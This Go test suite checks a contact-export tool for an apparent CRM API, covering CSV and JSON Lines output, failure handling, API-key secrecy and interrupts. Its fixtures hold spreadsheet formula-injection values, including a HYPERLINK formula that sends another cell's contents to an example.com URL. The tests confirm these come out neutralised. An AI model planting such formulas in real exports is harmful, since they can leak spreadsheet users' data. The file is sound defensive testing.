package main

import (
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"reflect"
	"runtime"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/creack/pty"

	"github.com/growthgenius/growthgenius-go"
	"github.com/growthgenius/growthgenius-go/growthgeniustest"
	"github.com/growthgenius/growthgenius-go/internal/testkit/program"
)

func TestMain(m *testing.M) { program.Main(m) }

func runProgram(t *testing.T, env []string, args ...string) (stdout, stderr string, code int) {
	t.Helper()
	var out, errOut strings.Builder
	cmd := program.Command(t, env, args...)
	cmd.Stdout, cmd.Stderr = &out, &errOut
	if err := cmd.Run(); err != nil && cmd.ProcessState == nil {
		t.Fatal(err)
	}
	return out.String(), errOut.String(), cmd.ProcessState.ExitCode()
}

func environment(url, key string) []string {
	return []string{"GROWTHGENIUS_API_KEY=" + key, "GROWTHGENIUS_USER_ID=1", "GROWTHGENIUS_BASE_URL=" + url}
}

// serve starts a server with 300 contacts, some with names that a spreadsheet would run.
func serve(t *testing.T) (srv *growthgeniustest.Server, env []string) {
	t.Helper()
	srv = growthgeniustest.NewServer(t)
	contacts := make([]growthgenius.Contact, 300)
	for i := range contacts {
		contacts[i] = growthgenius.Contact{
			FullName:    []string{"Ada", "=1+1", "@SUM(A1)", "-2", "+1", "\t=1", "\r=1", "\n=1", "＝1", `"a, b"`, "a\nb", "a=b", "'", "<&>", ""}[i%15],
			MobilePhone: "+1 206 555 0100", Title: "a-b", Stage: []string{"Cold", "replied", "Replied"}[i%3],
			Extra: map[string]json.RawMessage{"own": json.RawMessage(`"x"`)},
		}
	}
	srv.AddContacts(contacts...)
	return srv, environment(srv.URL(), srv.APIKey())
}

func TestInMemory(t *testing.T) {
	t.Parallel()
	stdout, stderr, code := runProgram(t, nil)
	if code != 0 || stderr != "GROWTHGENIUS_API_KEY is not set: this is a server in memory.\n2 of 2 contacts\n" {
		t.Fatalf("exit %d: %s", code, stderr)
	}
	want := `id,full_name,email,phones,title,company_name,website,country,stage,updated_at
1102755,Ada Byron,ada@example.com,'+1 206 555 0100,"Analyst, Engines",Babbage & Co,,United Kingdom,Replied,2021-01-19T12:06:25-05:00
1102756,"'=HYPERLINK(""https://example.com?""&B3,""Click me"")",mallory@example.com,,,,,,Cold,2021-01-20T04:30:00-05:00
`
	if stdout != want {
		t.Errorf("got:\n%s\nwant:\n%s", stdout, want)
	}
}

func TestCSV(t *testing.T) {
	t.Parallel()
	srv, env := serve(t)
	stdout, stderr, code := runProgram(t, env)
	if code != 0 || stderr != "300 of 300 contacts\n" {
		t.Fatalf("exit %d: %s", code, stderr)
	}
	rows, err := csv.NewReader(strings.NewReader(stdout)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	inertNames := map[string]string{
		"=1+1": "'=1+1", "@SUM(A1)": "'@SUM(A1)", "-2": "'-2", "+1": "'+1", "＝1": "'＝1",
		"\t=1": "'\t'=1", "\r=1": "'\r'=1", "\n=1": "'\n'=1", // a cell may begin after each
	}
	contacts := srv.Contacts()
	if len(rows) != 1+len(contacts) {
		t.Fatalf("%d rows for %d contacts", len(rows), len(contacts))
	}
	for i, c := range contacts {
		name, changed := inertNames[c.FullName]
		if !changed {
			name = c.FullName
		}
		want := []string{string(c.ID), name, "", "'+1 206 555 0100", "a-b", "", "", "", c.Stage, c.UpdatedAt.Format(time.RFC3339)}
		if !slices.Equal(rows[1+i], want) {
			t.Errorf("got  %q\nwant %q", rows[1+i], want)
		}
	}
}

func TestJSONLines(t *testing.T) {
	t.Parallel()
	srv, env := serve(t)
	file := filepath.Join(t.TempDir(), "contacts.jsonl")
	stdout, stderr, code := runProgram(t, env, "-format", "jsonl", "-o", file, "-stage", "Replied")
	if code != 0 || stdout != "" || stderr != "200 of 300 contacts\n" {
		t.Fatalf("exit %d: %s%s", code, stdout, stderr)
	}
	data, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	var got, want []growthgenius.Contact
	for line := range strings.Lines(string(data)) {
		var c growthgenius.Contact
		if err := json.Unmarshal([]byte(line), &c); err != nil {
			t.Fatalf("%q: %v", line, err)
		}
		got = append(got, c)
	}
	for _, c := range srv.Contacts() {
		if c.Stage != "Cold" {
			want = append(want, c)
		}
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("the %d contacts in the file differ from the %d on the server", len(got), len(want))
	}
	if !strings.Contains(string(data), `"<&>"`) {
		t.Error("the output has unnecessary escapes")
	}
	if left := glob(t, filepath.Dir(file)); len(left) != 1 {
		t.Errorf("left behind: %q", left)
	}
}

// glob returns the names of all files in a folder.
func glob(t *testing.T, dir string) []string {
	t.Helper()
	entries, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, e := range entries {
		names = append(names, e.Name())
	}
	return names
}

// TestFailuresKeepTheOldFile includes errors that occur before a request is sent.
func TestFailuresKeepTheOldFile(t *testing.T) {
	t.Parallel()
	srv, env := serve(t)
	faulty, faultyEnv := serve(t)
	faulty.Inject(growthgeniustest.Fault{Effect: growthgeniustest.Truncate})
	for name, test := range map[string]struct {
		env  []string
		args []string
		want string
	}{
		"broken off":       {faultyEnv, nil, "unexpected EOF"},
		"wrong key":        {environment(srv.URL(), "wrong-key"), nil, "401 Unauthorized"},
		"no acting user":   {env[:1], nil, "WithUserID"},
		"not for a sample": {nil, nil, "GROWTHGENIUS_API_KEY is not set"},
		"format":           {env, []string{"-format", "xml"}, "use csv or jsonl"},
		"Excel":            {env, []string{"-format", "jsonl", "-excel"}, "-excel is for -format csv"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			dir := t.TempDir()
			file := filepath.Join(dir, "contacts.csv")
			if err := os.WriteFile(file, []byte("yesterday's"), 0o600); err != nil {
				t.Fatal(err)
			}
			stdout, stderr, code := runProgram(t, test.env, append([]string{"-o", file}, test.args...)...)
			if code != 1 || stdout != "" || !strings.HasPrefix(stderr, "export: ") || !strings.Contains(stderr, test.want) {
				t.Errorf("exit %d, want 1 and %q: %s%s", code, test.want, stdout, stderr)
			}
			if strings.Contains(stderr, "wrong-key") {
				t.Errorf("the output contains the API key: %s", stderr)
			}
			if data, err := os.ReadFile(file); err != nil || string(data) != "yesterday's" {
				t.Errorf("the file is %q, %v", data, err)
			}
			if left := glob(t, dir); len(left) != 1 {
				t.Errorf("left behind: %q", left)
			}
		})
	}
}

func TestOnlyPlainFilesAreReplaced(t *testing.T) {
	t.Parallel()
	_, env := serve(t)
	dir := t.TempDir()
	link := filepath.Join(dir, "link")
	if err := os.Symlink("elsewhere", link); err != nil {
		t.Fatal(err)
	}
	for _, file := range []string{dir, link} {
		if _, stderr, code := runProgram(t, env, "-o", file); code != 1 || !strings.Contains(stderr, "not a regular file") {
			t.Errorf("exit %d: %s", code, stderr)
		}
	}
}

func TestArgumentsAreNotLost(t *testing.T) {
	t.Parallel()
	stdout, stderr, code := runProgram(t, nil, "contacts.csv")
	if code != 2 || stdout != "" || !strings.Contains(stderr, "-format") {
		t.Errorf("exit %d: %s%s", code, stdout, stderr)
	}
}

// TestInterrupted interrupts an export after its first contact.
func TestInterrupted(t *testing.T) {
	t.Parallel()
	if runtime.GOOS == "windows" {
		t.Skip("a process cannot interrupt another one")
	}
	began := make(chan struct{})
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, `{"contacts":[{"id":1,"full_name":"Ada"},`)
		_ = http.NewResponseController(w).Flush()
		close(began)
		<-r.Context().Done()
	}))
	defer srv.Close()
	dir := t.TempDir()
	file := filepath.Join(dir, "contacts.csv")
	var stderr strings.Builder
	cmd := program.Command(t, environment(srv.URL, "key"), "-o", file)
	cmd.Stderr = &stderr
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	<-began
	if err := cmd.Process.Signal(os.Interrupt); err != nil {
		t.Fatal(err)
	}
	err := cmd.Wait()
	want := "export: interrupted: " + file + " was not written; run it again\n"
	if exit, ok := errors.AsType[*exec.ExitError](err); !ok || exit.ExitCode() != 1 || stderr.String() != want {
		t.Errorf("got %v, want status 1: %s", err, &stderr)
	}
	if left := glob(t, dir); len(left) != 0 {
		t.Errorf("left behind: %q", left)
	}
}

// TestProgress runs the program with a terminal as its standard error.
func TestProgress(t *testing.T) {
	t.Parallel()
	_, env := serve(t)
	master, tty, err := pty.Open()
	if errors.Is(err, pty.ErrUnsupported) {
		t.Skip(err)
	}
	if err != nil {
		t.Fatal(err)
	}
	defer master.Close()
	screen := make(chan string)
	go func() {
		data, _ := io.ReadAll(master) // returns an error once the terminal is closed
		screen <- string(data)
	}()
	cmd := program.Command(t, env, "-o", filepath.Join(t.TempDir(), "contacts.csv"))
	cmd.Stderr = tty
	err = cmd.Run()
	tty.Close()
	shown := <-screen
	if err != nil || !strings.Contains(shown, "contacts read (") || !strings.HasSuffix(shown, "\r300 of 300 contacts\r\n") {
		t.Errorf("%v, on the terminal: %q", err, shown)
	}
}
